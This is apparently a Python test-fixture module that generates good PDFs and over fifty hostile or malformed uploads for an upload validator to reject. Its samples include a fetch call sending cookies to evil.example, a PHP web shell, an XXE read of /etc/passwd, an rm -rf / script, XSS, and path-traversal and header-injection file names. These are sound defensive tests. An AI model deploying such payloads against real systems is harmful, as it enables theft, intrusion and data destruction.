"""Generated upload corpus: good PDFs and files that must never pass as one.

Everything is built in memory so the suite needs no binary fixtures; the huge files are made by
the tests themselves as sparse temporary files.
"""

from __future__ import annotations

import gzip
import io
import random
import zipfile
from dataclasses import dataclass

from pypdf import PdfWriter


def make_pdf(pages: int = 1, *, password: str | None = None, algorithm: str = "RC4-128") -> bytes:
    """A small real PDF with blank A4 pages (optionally encrypted)."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": "Test document"})
    if password is not None:
        writer.encrypt(user_password=password, owner_password="owner-secret", algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


@dataclass(frozen=True)
class BadFile:
    label: str
    name: str
    content: bytes
    code: str


def bad_files() -> list[BadFile]:
    """At least 50 hostile or broken uploads, each with the refusal code it must get."""
    good = make_pdf()
    big = make_pdf(pages=12)
    rng = random.Random(1234)  # repeatable junk, not security
    html = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    docx = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})
    exe = b"MZ\x90\x00\x03" + bytes(58) + b"This program cannot be run in DOS mode"
    xxe = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    junk = b"%PDF-1.7\n" + rng.randbytes(4000)
    dangling = b"%PDF-1.4\nxref\n0 1\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"
    zero_pages = good.replace(b"/Count 1", b"/Count 0").replace(b"/Kids [ 4 0 R ]", b"/Kids [ ]")
    files = [
        BadFile("empty", "empty.pdf", b"", "empty"),
        BadFile("html", "invoice.pdf", html, "not_pdf"),
        BadFile("svg", "drawing.pdf", svg, "not_pdf"),
        BadFile("javascript", "script.pdf", b"fetch('https://evil.example/'+document.cookie)", "not_pdf"),
        BadFile("png", "image.pdf", b"\x89PNG\r\n\x1a\n" + bytes(64), "not_pdf"),
        BadFile("jpeg", "photo.pdf", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(64), "not_pdf"),
        BadFile("gif", "anim.pdf", b"GIF89a" + bytes(64), "not_pdf"),
        BadFile("zip", "archive.pdf", _zip({"a.txt": b"hello"}), "not_pdf"),
        BadFile("zip with a pdf inside", "wrapped.pdf", _zip({"doc.pdf": good}), "not_pdf"),
        BadFile("docx", "contract.pdf", docx, "not_pdf"),
        BadFile("asice", "container.pdf", _zip({"mimetype": b"application/vnd.etsi.asic-e+zip"}), "not_pdf"),
        BadFile("gzip", "packed.pdf", gzip.compress(good), "not_pdf"),
        BadFile("windows exe", "setup.pdf", exe, "not_pdf"),
        BadFile("elf", "binary.pdf", b"\x7fELF\x02\x01\x01" + bytes(64), "not_pdf"),
        BadFile("shell script", "run.pdf", b"#!/bin/sh\nrm -rf /\n", "not_pdf"),
        BadFile("php", "shell.pdf", b"<?php system($_GET['c']); ?>", "not_pdf"),
        BadFile("xml", "data.pdf", xxe, "not_pdf"),
        BadFile("rtf", "letter.pdf", b"{\\rtf1\\ansi hello}", "not_pdf"),
        BadFile("postscript", "print.pdf", b"%!PS-Adobe-3.0\n%%EOF\n", "not_pdf"),
        BadFile("plain text", "notes.pdf", b"just some text\n", "not_pdf"),
        BadFile("html polyglot with a late %PDF", "poly.pdf", html + b"\n" + good, "not_pdf"),
        BadFile("svg polyglot with a late %PDF", "poly2.pdf", svg + good, "not_pdf"),
        BadFile("pdf after 100 bytes of junk", "junk-first.pdf", bytes(100) + good, "not_pdf"),
        BadFile("leading whitespace", "space.pdf", b"  \n" + good, "not_pdf"),
        BadFile("utf-8 bom", "bom.pdf", b"\xef\xbb\xbf" + good, "not_pdf"),
        BadFile("utf-16 text", "utf16.pdf", "%PDF-1.7 hello".encode("utf-16"), "not_pdf"),
        BadFile("lower-case magic", "lower.pdf", good.replace(b"%PDF-", b"%pdf-", 1), "not_pdf"),
        BadFile("magic without dash", "nodash.pdf", b"%PDF1.4\n" + good[9:], "not_pdf"),
        BadFile("reversed pdf", "backwards.pdf", good[::-1], "not_pdf"),
        BadFile("only the magic", "magic.pdf", b"%PDF-", "damaged"),
        BadFile("header and garbage", "garbage.pdf", junk, "damaged"),
        BadFile("header, garbage and %%EOF", "garbage-eof.pdf", junk + b"\n%%EOF\n", "damaged"),
        BadFile("header, html and %%EOF", "html-eof.pdf", b"%PDF-1.4\n" + html + b"\n%%EOF\n", "damaged"),
        BadFile("header and %%EOF only", "hollow.pdf", b"%PDF-1.4\n%%EOF\n", "damaged"),
        BadFile("nul bytes body", "nul.pdf", b"%PDF-1.7\n" + bytes(2000) + b"%%EOF", "damaged"),
        BadFile("%%EOF far from the end", "early-eof.pdf", b"%PDF-1.4\n%%EOF\n" + rng.randbytes(3000), "damaged"),
        BadFile("no objects, dangling xref", "xref.pdf", dangling, "damaged"),
        BadFile("truncated at 10%", "cut10.pdf", good[: len(good) // 10], "damaged"),
        BadFile("truncated at half", "cut50.pdf", good[: len(good) // 2], "damaged"),
        BadFile("truncated at 90%", "cut90.pdf", good[: len(good) * 9 // 10], "damaged"),
        BadFile("truncated before %%EOF", "cut-eof.pdf", good[: good.rindex(b"%%EOF")], "damaged"),
        BadFile("12 pages truncated at half", "cut-big.pdf", big[: len(big) // 2], "damaged"),
        BadFile("12 pages truncated near the end", "cut-big-end.pdf", big[:-20], "damaged"),
        BadFile("encrypted RC4", "secret.pdf", make_pdf(password="user-secret"), "encrypted"),
        BadFile("encrypted AES-128", "aes.pdf", make_pdf(password="user-secret", algorithm="AES-128"), "encrypted"),
        BadFile("encrypted AES-256", "aes256.pdf", make_pdf(password="user-secret", algorithm="AES-256"), "encrypted"),
        BadFile("owner password only", "owner.pdf", make_pdf(password=""), "encrypted"),
        BadFile("zero pages", "blank.pdf", zero_pages, "no_pages"),
        BadFile("good pdf named .html", "document.html", good, "not_pdf"),
        BadFile("good pdf named .pdf.exe", "document.pdf.exe", good, "not_pdf"),
        BadFile("good pdf without extension", "document", good, "not_pdf"),
        BadFile("nul in name hides .html", "document.pdf\x00.html", html, "not_pdf"),
        BadFile("crlf header injection name", "a\r\nContent-Type: text/html\r\n\r\n<script>.pdf", html, "not_pdf"),
        BadFile("path traversal name", "../../../../etc/passwd.pdf", b"root:x:0:0:root:/root:/bin/bash\n", "not_pdf"),
        BadFile("windows path traversal name", "..\\..\\windows\\win.ini.pdf", b"[fonts]\n", "not_pdf"),
        BadFile("very long name", "a" * 5000 + ".pdf", svg, "not_pdf"),
        BadFile("right-to-left override name", "invoice\u202efdp.exe", good, "not_pdf"),
    ]
    assert len(files) >= 50
    return files
